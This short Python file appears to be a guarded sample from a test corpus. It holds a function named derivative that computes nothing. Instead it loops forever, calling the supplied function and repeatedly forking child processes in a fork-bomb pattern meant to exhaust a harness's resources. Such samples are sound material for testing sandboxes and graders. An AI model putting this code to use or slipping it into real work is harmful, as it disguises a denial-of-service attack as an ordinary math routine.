"""Calls the test back for ever, so that it always answers, and starts processes meanwhile.

Due: 13
Base: right
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% derivative
import os, time
def derivative(f, x):
    while True:
        f(1.0)
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            pass
